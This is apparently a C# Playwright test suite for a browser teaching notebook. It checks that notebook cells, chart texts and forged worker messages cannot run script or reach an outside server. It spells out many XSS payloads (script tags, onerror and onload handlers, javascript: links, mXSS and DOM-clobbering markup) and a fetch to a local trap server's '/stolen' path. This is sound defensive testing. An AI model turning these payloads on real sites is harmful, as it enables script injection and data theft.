using System.Text.Json;
using Microsoft.Playwright;

namespace Teaching.Browser.Tests;

/// <summary>Cells of somebody who wants a script to run in the page of whoever runs them, or to tell a server of it.</summary>
public sealed class HostileTests : LiveTests, IDisposable
{
    private readonly Trap trap = new();

    public HostileTests(Teaching.Tests.Browsing.Browser browser, LiveSite site)
        : base(browser, site)
    {
    }

    /// <summary>Sets a flag on the page and asks a server: what no page may ever do.</summary>
    private string Script => $"(window.top||window).hacked=1;fetch('{trap.Address}/stolen')";

    /// <summary>What runs the script or asks the server, each in its own way, where nothing stops it.</summary>
    private string[] Html =>
    [
        $"<script>{Script}</script><p>script</p>",
        $"<p>picture</p><img src=\"x:\" onerror=\"{Script}\"><img src=\"{trap.Address}/picture\">",
        $"<iframe srcdoc=\"&lt;script&gt;{Script}&lt;/script&gt;\"></iframe><iframe src=\"{trap.Address}/frame\"></iframe>",
        $"<style>body{{background:url({trap.Address}/background);display:none}}</style><p>style</p>",
        $"<svg onload=\"{Script}\"><script>{Script}</script><foreignObject><img src=\"x:\" onerror=\"{Script}\"></foreignObject></svg>",
        $"<a id=\"Plotly\" name=\"teachingPage\" href=\"javascript:{Script}\">a link</a><form id=\"katex\"><input name=\"attributes\"></form>",
        $"<details open ontoggle=\"{Script}\"><summary>x</summary>y</details><input autofocus onfocus=\"{Script}\">",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Script}&gt;\">",
        $"<base href=\"{trap.Address}/\"><meta http-equiv=\"refresh\" content=\"0;url={trap.Address}/refresh\"><link rel=stylesheet href=\"{trap.Address}/style\">",
    ];

    private string Svg => $"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"60\" height=\"40\" onload=\"{Script}\"><script>{Script}</script><image href=\"{trap.Address}/image\" width=\"9\" height=\"9\"/></svg>";

    /// <summary>A chart whose every text is markup.</summary>
    private string Figure
    {
        get
        {
            string bad = $"<a href=\"javascript:{Script}\">click</a><img src=\"x:\" onerror=\"{Script}\"><b onclick=\"{Script}\">x</b>";
            return JsonSerializer.Serialize(new
            {
                data = new[] { new { type = "scatter", x = new[] { 1, 2 }, y = new[] { 1, 2 }, name = bad, text = bad, mode = "lines+text", hovertemplate = bad } },
                layout = new { width = 600, height = 400, title = new { text = bad }, images = new[] { new { source = trap.Address + "/layout", sizex = 1, sizey = 1 } }, annotations = new[] { new { text = bad, x = 1, y = 1 } } },
                config = new { plotlyServerURL = trap.Address, showSendToCloud = true },
            });
        }
    }

    /// <summary>How a cell calls a function of the worker by its name.</summary>
    private const string Reach = """
        using System.Runtime.InteropServices.JavaScript;
        static void Call(string function, string argument)
        {
            var signature = JSFunctionBinding.BindJSFunction(function, null!, [JSMarshalerType.Void, JSMarshalerType.String]);
            Span<JSMarshalerArgument> arguments = stackalloc JSMarshalerArgument[3];
            foreach (ref var argument0 in arguments) argument0.Initialize();
            arguments[2].ToJS(argument);
            JSFunctionBinding.InvokeJS(signature, arguments);
        }
        static void Post(string json)
        {
            var signature = JSFunctionBinding.BindJSFunction("globalThis.JSON.parse", null!, [JSMarshalerType.JSObject, JSMarshalerType.String]);
            Span<JSMarshalerArgument> arguments = stackalloc JSMarshalerArgument[3];
            foreach (ref var argument0 in arguments) argument0.Initialize();
            arguments[2].ToJS(json);
            JSFunctionBinding.InvokeJS(signature, arguments);
            arguments[1].ToManaged(out JSObject? parsed);
            var post = JSFunctionBinding.BindJSFunction("globalThis.postMessage", null!, [JSMarshalerType.Void, JSMarshalerType.JSObject]);
            Span<JSMarshalerArgument> posted = stackalloc JSMarshalerArgument[3];
            foreach (ref var argument0 in posted) argument0.Initialize();
            posted[2].ToJS(parsed);
            JSFunctionBinding.InvokeJS(post, posted);
        }
        static string Try(Action act) { try { act(); return "done"; } catch (Exception error) { return error.GetType().Name; } }
        """;

    [Fact]
    public async Task Values_that_a_cell_shows_run_nothing_and_ask_nobody()
    {
        Tab tab = await OpenAsync();
        foreach (string html in Html) await tab.RunAsync(1, $"display(HTML({Literal(html)}));");
        foreach ((string type, string content) in new[] { ("image/svg+xml", Svg), ("text/markdown", string.Concat(Html)), ("text/latex", $"$\\href{{javascript:{Script}}}{{x}} \\htmlData{{onclick={Script}}}{{y}}$"), ("application/javascript", Script), ("image/png", $"\" onerror=\"{Script}") })
            await tab.RunAsync(1, $"{Literal(content)}.DisplayAs(\"{type}\");");
        await HarmlessAsync(tab);
    }

    [Fact]
    public async Task Texts_of_a_chart_run_nothing_and_ask_nobody()
    {
        Tab tab = await OpenAsync();
        await tab.RunAsync(1, Reach);
        await tab.RunAsync(2, $"Post({Literal(JsonSerializer.Serialize(Display(("application/vnd.plotly.v1+json", Figure), ("image/svg+xml", Svg), ("text/plain", $"\" onerror=\"{Script}"))))});");
        await tab.Outputs(2).Locator("figure.chart img.drawn").WaitForAsync();
        foreach (ILocator link in await tab.Outputs(2).Locator("a").AllAsync()) await link.DispatchEventAsync("click");
        await HarmlessAsync(tab);
    }

    [Fact]
    public async Task A_cell_that_reaches_into_the_worker_finds_nothing_to_ask_or_keep_with()
    {
        Tab tab = await OpenAsync();
        string said = await tab.RunAsync(1, Reach + $$"""

            foreach (string name in new[] { "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "BroadcastChannel", "Worker", "importScripts", "indexedDB", "caches", "cookieStore", "navigator" })
                Console.WriteLine($"{name}: {JSHost.GlobalThis.GetTypeOfProperty(name)}");
            Console.WriteLine("fetch: " + Try(() => Call("globalThis.fetch", "{{trap.Address}}/fetch")));
            Console.WriteLine("importScripts: " + Try(() => Call("globalThis.importScripts", "{{trap.Address}}/script")));
            Console.WriteLine("eval: " + Try(() => Call("globalThis.eval", "1")));
            Console.WriteLine("Function: " + Try(() => Call("globalThis.Function", "return 1")));
            foreach (string module in new[] { "data:text/javascript,postMessage({type:'ended',message:'hacked'})", "{{trap.Address}}/module.js" })
                try { await JSHost.ImportAsync("m" + module.Length, module); Console.WriteLine("imported"); } catch (Exception) { Console.WriteLine("not imported"); }
            """);
        string[] lines = said.ReplaceLineEndings("\n").Split('\n');
        Assert.All(lines[..11], line => Assert.EndsWith(": undefined", line, StringComparison.Ordinal));
        Assert.All(lines[11..15], line => Assert.EndsWith("Exception", line, StringComparison.Ordinal));
        Assert.Equal(["not imported", "not imported"], lines[15..]);
        await HarmlessAsync(tab);
        Assert.DoesNotContain(tab.Errors, error => !error.Contains("Content Security Policy", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Messages_that_a_cell_forges_are_taken_for_data_or_for_nothing()
    {
        Tab tab = await OpenAsync();
        await tab.RunAsync(1, Reach);
        object[] forged =
        [
            .. Html.Select(html => Display(("text/html", html))),
            new { type = "stream", name = $"stderr\"><script>{Script}</script>", text = string.Concat(Html) },
            new { type = "error", name = Html[0], message = Html[1], traceback = Html },
            new { type = "completions", id = 1, items = 5 }, new { type = "nonsense" }, new { }, new { type = (string?)null },
            new { type = "stream" }, new { type = "stream", name = 1, text = new { } },
            new { type = "display" }, new { type = "display", data = (object?)null }, new { type = "display", data = 5 }, new { type = "display", data = new Dictionary<string, object?> { ["text/plain"] = null, ["image/png"] = new { }, ["text/html"] = new[] { 1 } } },
            new { type = "display", data = new Dictionary<string, object?> { ["text/latex"] = 1, ["application/vnd.plotly.v1+json"] = 5, ["image/svg+xml"] = new { a = 1 } } },
            new { type = "displayUpdate" }, new { type = "displayUpdate", displayId = new { }, data = 1 }, new { type = "clear", wait = "x" },
            new { type = "error" }, new { type = "error", traceback = 1 }, new { type = "error", name = 1, message = new { }, traceback = new object?[] { null, 1, new { } } },
            new { type = "progress" }, new { type = "ready" }, new { type = "finished" }, new { type = "finished", id = 4711 }, new { type = "inspection", id = "x" },
            new[] { 1, 2 },
        ];
        string posts = string.Concat(forged.Select(one => $"Post({Literal(JsonSerializer.Serialize(one))});\n"));
        await tab.RunAsync(2, posts + "Call(\"globalThis.postMessage\", \"a text\");\nCall(\"globalThis.postMessage\", null!);");
        Assert.Equal("three", await tab.RunAsync(3));
        await HarmlessAsync(tab);
        Assert.DoesNotContain(tab.Errors, error => error.Contains("TypeError", StringComparison.Ordinal) || error.Contains("undefined", StringComparison.Ordinal));
    }

    public void Dispose() => trap.Dispose();

    /// <summary>No flag, no stranger, no request but for the site's own, and the page is where it was.</summary>
    private async Task HarmlessAsync(Tab tab)
    {
        Assert.True(await tab.Page.EvaluateAsync<bool>("() => window.hacked === undefined"));
        Assert.True(await tab.Page.Locator("h1").IsVisibleAsync());
        Assert.Equal(0, await tab.Page.Locator("main :is(script:not([type='application/json']), [onerror], [onload], [onclick], a[href^='javascript:'], iframe:not([sandbox='']), base, meta, link)").CountAsync());
        Assert.Empty(trap.Asked);
    }

    private static object Display(params (string Type, string Content)[] data) => new { type = "display", data = data.ToDictionary(one => one.Type, one => one.Content), displayId = (string?)null, isResult = false };

    private static string Literal(string text) => JsonSerializer.Serialize(text);
}
